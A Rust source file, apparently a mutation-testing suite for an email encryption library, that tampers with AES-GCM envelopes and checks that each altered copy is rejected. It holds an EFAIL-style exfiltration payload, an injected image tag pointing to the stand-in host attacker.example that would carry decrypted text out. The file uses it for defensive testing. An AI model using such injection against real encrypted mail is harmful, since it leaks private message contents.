use mailseal_core::{decode_envelope, open, Envelope, KernelError, MessageKey};
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha20Rng;
use rayon::prelude::*;
use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::mutation::{mutate, Mutation, MutationKind, BLOCK};

/// Start of an image tag whose URL would swallow decrypted text.
pub const DEFAULT_EXFIL_PREFIX: &[u8] = b"<img src=\"http://attacker.example/";

/// Anything that turns an envelope back into plaintext.
pub trait Opener: Sync {
    fn open(&self, envelope: &Envelope) -> Result<Vec<u8>, KernelError>;
}

/// The production path: AES-128-GCM with the message key.
pub struct AeadOpener<'a> {
    key: &'a MessageKey,
}

impl<'a> AeadOpener<'a> {
    pub fn new(key: &'a MessageKey) -> Self {
        Self { key }
    }
}

impl Opener for AeadOpener<'_> {
    fn open(&self, envelope: &Envelope) -> Result<Vec<u8>, KernelError> {
        open(envelope, self.key)
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct MutationReport {
    pub mutation: Mutation,
    pub rejected: bool,
    /// Error kind when rejected, e.g. `AuthenticationFailed`.
    pub error_kind: Option<String>,
    /// Plaintext bytes handed back by the opener.
    pub leaked_bytes: usize,
}

#[derive(Debug, Clone, PartialEq, Eq, Error)]
pub enum SuiteError {
    #[error("the unmodified envelope does not open: {0}")]
    BaselineRejected(KernelError),
}

fn evaluate(envelope: &Envelope, opener: &dyn Opener, mutation: Mutation) -> Option<MutationReport> {
    let wire = mutate(envelope, &mutation).ok()?;
    let outcome = decode_envelope(&wire).and_then(|env| opener.open(&env));
    Some(match outcome {
        Ok(plaintext) => MutationReport { mutation, rejected: false, error_kind: None, leaked_bytes: plaintext.len() },
        Err(err) => MutationReport { mutation, rejected: true, error_kind: Some(err.kind().to_owned()), leaked_bytes: 0 },
    })
}

/// Opens every mutated copy of `envelope` in parallel.
///
/// Mutations that are out of bounds for this envelope are skipped. The result
/// is sorted by mutation so that runs are reproducible.
pub fn run_suite(
    envelope: &Envelope,
    opener: &dyn Opener,
    mutations: Vec<Mutation>,
) -> Result<Vec<MutationReport>, SuiteError> {
    opener.open(envelope).map_err(SuiteError::BaselineRejected)?;
    let mut reports: Vec<MutationReport> =
        mutations.into_par_iter().filter_map(|m| evaluate(envelope, opener, m)).collect();
    reports.sort_by(|a, b| a.mutation.cmp(&b.mutation));
    Ok(reports)
}

fn blocks(envelope: &Envelope) -> usize {
    envelope.ciphertext.len() / BLOCK
}

/// Every position of every requested kind, plus the identity control.
/// Intended for small envelopes (tens of ciphertext bytes).
pub fn plan_exhaustive(envelope: &Envelope, kinds: &[MutationKind], donor_ad: Option<&[u8]>) -> Vec<Mutation> {
    let wire_len = envelope.encoded_len();
    let n_blocks = blocks(envelope);
    let mut plan = vec![Mutation::Identity];
    for kind in kinds {
        match kind {
            MutationKind::Identity => {}
            MutationKind::BitFlip => plan.extend((0..wire_len * 8).map(|bit| Mutation::BitFlip { bit })),
            MutationKind::BlockSplice => {
                for first in 0..n_blocks {
                    for second in first + 1..n_blocks {
                        plan.push(Mutation::BlockSplice { first, second });
                    }
                }
            }
            MutationKind::BlockDuplicate => plan.extend((0..n_blocks).map(|block| Mutation::BlockDuplicate { block })),
            MutationKind::Truncate => plan.extend((1..=wire_len).map(|bytes| Mutation::Truncate { bytes })),
            MutationKind::HtmlPrefixInject => plan.extend((0..=n_blocks).map(|b| Mutation::HtmlPrefixInject {
                offset: b * BLOCK,
                payload: DEFAULT_EXFIL_PREFIX.to_vec(),
            })),
            MutationKind::AdSwap => {
                if let Some(donor) = donor_ad.filter(|d| *d != envelope.ad) {
                    plan.push(Mutation::AdSwap { donor_ad: donor.to_vec() });
                }
            }
        }
    }
    plan
}

/// `count` random attack mutations cycling through `kinds`, plus the
/// identity control. Deterministic for a given seed.
pub fn plan_sampled(
    envelope: &Envelope,
    kinds: &[MutationKind],
    donor_ad: Option<&[u8]>,
    count: usize,
    seed: u64,
) -> Vec<Mutation> {
    let mut rng = ChaCha20Rng::seed_from_u64(seed);
    let wire_len = envelope.encoded_len();
    let ct_len = envelope.ciphertext.len();
    let n_blocks = blocks(envelope);
    let usable: Vec<MutationKind> = kinds
        .iter()
        .copied()
        .filter(|k| match k {
            MutationKind::Identity => false,
            MutationKind::BlockSplice => n_blocks >= 2,
            MutationKind::BlockDuplicate => n_blocks >= 1,
            MutationKind::AdSwap => donor_ad.is_some_and(|d| d != envelope.ad),
            _ => true,
        })
        .collect();

    let mut plan = vec![Mutation::Identity];
    if usable.is_empty() {
        return plan;
    }
    for i in 0..count {
        let m = match usable[i % usable.len()] {
            MutationKind::BitFlip => Mutation::BitFlip { bit: rng.gen_range(0..wire_len * 8) },
            MutationKind::BlockSplice => {
                let first = rng.gen_range(0..n_blocks);
                let mut second = rng.gen_range(0..n_blocks - 1);
                if second >= first {
                    second += 1;
                }
                Mutation::BlockSplice { first, second }
            }
            MutationKind::BlockDuplicate => Mutation::BlockDuplicate { block: rng.gen_range(0..n_blocks) },
            MutationKind::Truncate => Mutation::Truncate { bytes: rng.gen_range(1..=wire_len) },
            MutationKind::HtmlPrefixInject => {
                let mut payload = DEFAULT_EXFIL_PREFIX.to_vec();
                payload.extend(format!("{i:x}").bytes());
                Mutation::HtmlPrefixInject { offset: rng.gen_range(0..=ct_len), payload }
            }
            MutationKind::AdSwap => {
                let original = donor_ad.expect("filtered above");
                let mut donor = original.to_vec();
                // Vary the donor too, but never back into the target's own AD.
                if i % 2 == 1 && !donor.is_empty() {
                    loop {
                        let at = rng.gen_range(0..donor.len());
                        donor[at] ^= 1 << rng.gen_range(0..8);
                        if donor != envelope.ad {
                            break;
                        }
                        donor.copy_from_slice(original);
                    }
                }
                Mutation::AdSwap { donor_ad: donor }
            }
            MutationKind::Identity => unreachable!(),
        };
        plan.push(m);
    }
    plan
}
